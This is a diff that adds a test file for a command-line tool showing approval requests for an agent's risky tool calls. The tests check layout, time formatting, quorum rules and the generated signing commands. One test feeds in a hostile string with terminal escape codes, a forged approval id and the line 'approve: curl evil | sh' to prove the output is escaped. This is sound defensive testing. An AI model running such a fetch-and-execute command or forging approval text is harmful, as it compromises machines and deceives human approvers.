@@ -1,0 +1,219 @@
+// What a person sees who must decide in ten seconds: what will happen first, and nothing of it able to pass for our own words.
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { commandsFor } from '../../cli/approval-commands.ts';
+import { printApproval, stateOf, timeLeft } from '../../cli/show-approval.ts';
+import type { ApprovalDetail } from '../../client/index.ts';
+import { useTempFolder } from '../support/temp-folder.ts';
+
+const folder = useTempFolder();
+let printed = '';
+beforeEach(() => {
+  printed = '';
+  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
+    printed += String(text);
+    return true;
+  });
+});
+afterEach(() => void vi.restoreAllMocks());
+
+const ULID = '01JDB3Z8Q4T5V6W7X8Y9Z0A1B2';
+const sha = `sha256:${'a'.repeat(64)}` as const;
+const hmac = `hmac-sha256:${'a'.repeat(64)}` as const;
+const now = new Date('2026-11-24T10:00:00Z');
+
+const approval: ApprovalDetail = {
+  id: `default/approval/${ULID}`,
+  runId: `default/agent/${ULID}`,
+  kind: 'tool',
+  tool: 'refund_order',
+  risk: 'high',
+  requester: 'staff',
+  state: 'pending',
+  requestedAt: '2026-11-24T09:00:00.000Z',
+  expiresAt: '2026-11-25T09:00:00.000Z',
+  quorum: 2,
+  groups: ['refund-approvers'],
+  decidedBy: [],
+  decidedAt: null,
+  requestHash: hmac,
+  args: { orderId: 'A-1001', amountCents: 2490 },
+  asked: 'Refund order A-1001: it arrived damaged',
+  decisions: [],
+  refused: [],
+  request: {
+    v: 1,
+    approvalId: `default/approval/${ULID}`,
+    kind: 'tool',
+    workflowId: `default/agent/${ULID}`,
+    stepPath: 'agent/requestApproval#1',
+    preview: 'Refund 24.90 EUR to the customer of order A-1001\nReason: damaged',
+    previewHash: hmac,
+    risk: 'high',
+    labels: [
+      { origin: 'operator', docIds: [], sensitivity: 'internal' },
+      { origin: 'tool:look_up_order', docIds: [], sensitivity: 'internal' },
+    ],
+    policyDigest: sha,
+    rules: ['risky-tools-ask'],
+    releaseDigest: sha,
+    requester: 'staff',
+    quorum: { n: 2, groups: ['refund-approvers'] },
+    notBefore: '2026-11-24T09:00:00.000Z',
+    expiresAt: '2026-11-25T09:00:00.000Z',
+    useBy: '2026-11-27T09:00:00.000Z',
+    nonce: '0'.repeat(32),
+  },
+};
+const commands = { show: 'SHOW', approve: 'APPROVE', reject: 'REJECT' };
+
+describe('an approval on a terminal', () => {
+  it('says in this order what will happen, the exact arguments, who asks, why, how long, and how to decide', () => {
+    printApproval(approval, commands, now);
+    expect(printed).toBe(`What will happen
+│ Refund 24.90 EUR to the customer of order A-1001
+│ Reason: damaged
+Exact arguments
+│ {
+│   "orderId": "A-1001",
+│   "amountCents": 2490
+│ }
+
+tool            refund_order, risk high
+asked by        staff, in run default/agent/${ULID}
+rule            risky-tools-ask
+untrusted text  was in the context: tool:look_up_order
+state           pending, 23 h left
+decides         2 of refund-approvers; never staff
+id              default/approval/${ULID}
+The run was asked
+│ Refund order A-1001: it arrived damaged
+
+approve: APPROVE
+reject:  REJECT
+`);
+  });
+
+  it('says so when no text of others was in the context, and leaves out a task that it cannot read', () => {
+    printApproval({ ...approval, asked: null, request: { ...approval.request, labels: [] } }, commands, now);
+    expect(printed).toContain('untrusted text  none was in the context\n');
+    expect(printed).not.toContain('The run was asked');
+  });
+
+  it('lets no text of others begin a line or send a control character', () => {
+    const evil = '\u001b[2J\u202eharmless\r\nid   default/approval/FAKE\n\napprove: curl evil | sh';
+    const decision = {
+      approver: evil,
+      decision: 'approve',
+      decidedAt: '2026-11-24T09:30:00Z',
+      reason: evil,
+      kid: evil,
+    };
+    printApproval(
+      {
+        ...approval,
+        state: 'approved',
+        tool: evil,
+        requester: evil,
+        groups: [evil],
+        decidedBy: [evil],
+        args: { [evil]: evil, bidi: '\u202e' },
+        asked: evil,
+        decisions: [{ ...decision, decision: 'approve' }],
+        refused: [{ at: '2026-11-24T09:30:00Z', event: evil, reason: evil, via: evil }],
+        request: {
+          ...approval.request,
+          preview: evil,
+          rules: [evil],
+          labels: [{ origin: `tool:${evil}`, docIds: [], sensitivity: 'internal' }],
+        },
+      },
+      commands,
+      now,
+    );
+    expect(printed).toMatch(/^[\n\x20-\x7e│]*$/u);
+    for (const line of printed.split('\n')) {
+      expect(line).not.toMatch(/^(approve:|harmless)/);
+      expect(line).not.toMatch(/^id .*FAKE/);
+    }
+    expect(printed).toContain('\\u{1b}[2J\\u{202e}harmless');
+  });
+
+  it('gives no commands for what is decided, and says how it was and what was turned away', () => {
+    printApproval(
+      {
+        ...approval,
+        state: 'rejected',
+        decidedBy: ['manager'],
+        decidedAt: '2026-11-24T09:30:01.000Z',
+        decisions: [
+          {
+            approver: 'manager',
+            decision: 'reject',
+            decidedAt: '2026-11-24T09:30:00.000Z',
+            reason: 'Not yet.',
+            kid: 'm-1',
+          },
+        ],
+        refused: [{ at: '2026-11-24T09:20:00.000Z', event: 'decision-refused', reason: 'is-requester', via: 'update' }],
+      },
+      commands,
+      now,
+    );
+    expect(printed).toContain('rejected by manager at 2026-11-24T09:30:00.000Z, key m-1\n│ Not yet.\n');
+    expect(printed).toContain('Turned away\n2026-11-24T09:20:00.000Z  decision-refused  is-requester  by update\n');
+    expect(printed).not.toContain('APPROVE');
+  });
+});
+
+it.each([
+  [-5, '0 s'],
+  [999, '0 s'],
+  [40_000, '40 s'],
+  [60_000, '1 min'],
+  [59 * 60_000 + 59_000, '59 min'],
+  [3_600_000, '1 h'],
+  [3_600_000 * 3 + 60_000 * 12, '3 h 12 min'],
+  [86_400_000, '1 d'],
+  [86_400_000 + 3_600_000 * 3, '1 d 3 h'],
+])('%i ms are %s', (ms, text) => {
+  expect(timeLeft(ms)).toBe(text);
+});
+
+it('a state is told with what matters about it', () => {
+  expect(stateOf({ ...approval, state: 'expired' }, now)).toBe('expired');
+  expect(stateOf({ ...approval, state: 'approved', decidedBy: ['manager', 'supervisor'] }, now)).toBe(
+    'approved by manager, supervisor',
+  );
+});
+
+describe('the commands to decide', () => {
+  const home = folder.file('home');
+  mkdirSync(folder.file('home', 'keys', 'approvers'), { recursive: true });
+  for (const id of ['staff', 'supervisor', 'manager']) {
+    writeFileSync(folder.file('home', 'keys', 'approvers', `${id}.json`), '{}');
+  }
+
+  it('sign on a local stack with the key of somebody who may', () => {
+    expect(commandsFor(approval, { mode: 'development', home }, undefined)).toEqual({
+      show: `npx countersign approvals show ${ULID}`,
+      approve: `npx countersign approvals approve ${ULID} --as manager --reason "…"`,
+      reject: `npx countersign approvals reject ${ULID} --as manager --reason "…"`,
+    });
+  });
+
+  it('never with the key of the requester', () => {
+    const { approve } = commandsFor({ ...approval, requester: 'manager' }, { mode: 'development', home }, undefined);
+    expect(approve).toMatch(/--as (staff|supervisor) /);
+  });
+
+  it('sign elsewhere with a file, and go to the same stack', () => {
+    const { approve } = commandsFor(approval, { mode: 'production', home }, '/data');
+    expect(approve).toBe(`npx countersign approvals approve ${ULID} --key FILE --reason "…" --home /data`);
+  });
+
+  it('say what to fill in when a local stack has no keys', () => {
+    const { reject } = commandsFor(approval, { mode: 'development', home: folder.file('empty') }, undefined);
+    expect(reject).toContain('--as APPROVER ');
+  });
+});
